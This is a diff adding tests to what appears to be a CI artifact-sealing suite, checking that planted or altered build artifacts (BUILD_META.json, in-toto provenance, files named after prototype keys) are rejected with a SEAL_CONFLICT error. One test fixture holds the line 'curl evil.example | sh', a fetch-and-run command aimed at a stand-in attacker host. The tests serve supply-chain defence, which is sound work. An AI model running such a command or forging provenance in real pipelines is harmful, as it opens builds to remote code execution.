@@ -81,6 +81,9 @@ describe('a later attempt that sees the artifact of the first', () => {
     expect(readFileSync(join(second.set.folder, 'BUILD_META.txt'), 'utf8')).toContain(
       'runner-os: Linux',
     );
+    expect(readFileSync(join(second.set.folder, 'BUILD_META.json'), 'utf8')).toContain(
+      '"os": "Linux"',
+    );
     await verifySealedSet(second.set.folder, first.set.manifestSha256, localFiles);
   });
 
@@ -143,6 +146,30 @@ describe('an artifact of that name that another job of the run has planted', () 
       upload(await attempt(), artifacts),
     );
     expect(failure.seen).toContain('install.sh');
+  });
+
+  it('brings none in that has the name of something else in the program', async () => {
+    for (const name of ['constructor', 'toString']) {
+      const artifacts = await planted(() => [[name, 'curl evil.example | sh']]);
+      await expectFailure('SEAL_CONFLICT', async () => upload(await attempt(), artifacts));
+    }
+  });
+
+  it.each([
+    ['BUILD_META.json', '"toolchains": []', '"toolchains": [{ "name": "evil", "version": "1" }]'],
+    ['BUILD_META.json', '"os": "Linux"', '"os": "see https://evil.example"'],
+    ['release-provenance.intoto.json', 'refs/tags/v1.2.3"', 'refs/tags/v6.6.6"'],
+    ['release-provenance.intoto.json', '"push"', '"Linux"'],
+  ])('does not change what %s tells: %s', async (name, from, to) => {
+    const artifacts = await planted((set) => {
+      const text = readFileSync(join(set.folder, name), 'utf8');
+      expect(text).toContain(from);
+      return [[name, text.replace(from, to)]];
+    });
+    const failure = await expectFailure('SEAL_CONFLICT', async () =>
+      upload(await attempt(), artifacts),
+    );
+    expect(failure.seen).toContain(name);
   });
 
   it.each([
